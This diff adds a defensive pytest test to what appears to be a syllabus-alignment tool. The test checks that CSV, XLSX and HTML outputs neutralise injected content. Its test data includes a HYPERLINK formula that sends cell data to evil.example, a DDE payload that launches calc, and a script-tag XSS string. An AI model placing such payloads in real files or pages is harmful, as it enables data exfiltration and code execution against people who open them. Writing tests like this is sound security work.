@@ -494,3 +494,55 @@ def test_cli_rejects_a_non_positive_max_file_mb(tmp_path, capsys):
 
     assert exit_info.value.code == 2
     assert "should be a positive number" in capsys.readouterr().err
+
+
+# --- hostile text flowing into the outputs ----------------------------------------
+EVIL_OUTCOMES = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"Apply MARC 21 and RDA to catalog books")',
+    "@SUM(1) Describe how to check out library materials to patrons and renew loans.",
+    '<script>alert("x")</script> Explain the Dewey Decimal Classification system.',
+    "+cmd|' /C calc'!A0 Describe the reference interview with library patrons.",
+]
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_syllabus_text_cannot_inject_formulas_or_scripts_into_outputs(tmp_path):
+    import csv
+
+    import openpyxl
+
+    from lta_align.outputs import write_outputs
+
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "LTA360_evil.md").write_text(
+        hostile.syllabus_md("LTA 360", "Evil Course", EVIL_OUTCOMES), encoding="utf-8"
+    )
+    program = la.load_syllabi(tmp_path / "in")
+    alignment = la.align(program, la.load_framework("lssc"))
+    written = write_outputs(alignment, tmp_path / "out")
+
+    assert program.statements["text"].str.startswith("=HYPERLINK").any()
+    seen = {".csv": 0, ".xlsx": 0, ".html": 0}
+    for path in written:
+        if path.suffix == ".csv":
+            with open(path, encoding="utf-8", newline="") as fh:
+                for row in csv.reader(fh):
+                    bad = [c for c in row if c.startswith(_FORMULA_START)]
+                    assert not bad, f"{path.name}: {bad}"
+        elif path.suffix == ".xlsx":
+            wb = openpyxl.load_workbook(path)
+            for ws in wb.worksheets:
+                for row in ws.iter_rows():
+                    for cell in row:
+                        assert cell.data_type != "f", (ws.title, cell.coordinate)
+                        if isinstance(cell.value, str):
+                            assert not cell.value.startswith(_FORMULA_START)
+            wb.close()
+        elif path.suffix == ".html":
+            html = path.read_text("utf-8")
+            assert '<script>alert("x")' not in html
+        seen[path.suffix] = seen.get(path.suffix, 0) + 1
+    assert seen[".csv"] >= 5 and seen[".xlsx"] == 1 and seen[".html"] == 1
+    # the text itself is kept, shown as text
+    statements_csv = (tmp_path / "out" / "statements.csv").read_text("utf-8")
+    assert "HYPERLINK" in statements_csv
